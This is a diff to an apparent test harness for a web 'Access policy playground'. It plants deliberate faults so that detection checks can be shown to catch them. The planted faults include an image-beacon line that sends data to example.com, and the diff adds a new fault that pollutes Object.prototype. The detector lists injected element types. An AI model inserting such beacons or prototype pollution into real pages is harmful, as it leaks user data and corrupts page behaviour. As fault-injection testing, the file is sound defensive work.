@@ -106,7 +106,7 @@ export const planted: Readonly<Record<string, Planting>> = {
       new Image().src = `https://example.com/?${String(given[2])}`;
     };
   },
-  "an error is not caught": () => {
+  "what is shown fails": () => {
     const { replaceChildren } = Element.prototype;
     Element.prototype.replaceChildren = function (...nodes) {
       if (nodes.some((node) => node instanceof Element && node.textContent?.includes("\\u{")))
@@ -114,12 +114,11 @@ export const planted: Readonly<Record<string, Planting>> = {
       replaceChildren.apply(this, nodes);
     };
   },
-  "the page is left busy": () => {
-    const { setAttribute } = Element.prototype;
-    Element.prototype.setAttribute = function (name, value) {
-      const isQuiet = document.querySelector('[aria-selected="true"]#tab-who') !== null;
-      if (name === "aria-busy" && value === "false" && isQuiet) document.title = "ran";
-      setAttribute.call(this, name, value);
+  "a prototype is changed": () => {
+    const { replaceChildren } = Element.prototype;
+    Element.prototype.replaceChildren = function (...nodes) {
+      Object.assign(Object.prototype, { polluted: true });
+      replaceChildren.apply(this, nodes);
     };
   },
 };
@@ -175,6 +174,8 @@ function wrongs(): string[] {
   if (document.title !== "Access policy playground")
     found.push(`A script ran: the title is ${document.title}.`);
   if ("polluted" in {}) found.push("A prototype was changed.");
+  for (const { textContent } of document.querySelectorAll(".problem"))
+    if (textContent !== "") found.push(`The page failed: ${textContent}`);
   const main = document.querySelector("main");
   const strange =
     main?.querySelectorAll("script, iframe, object, embed, link, style, svg, form, img:not(.drawing)") ?? [];
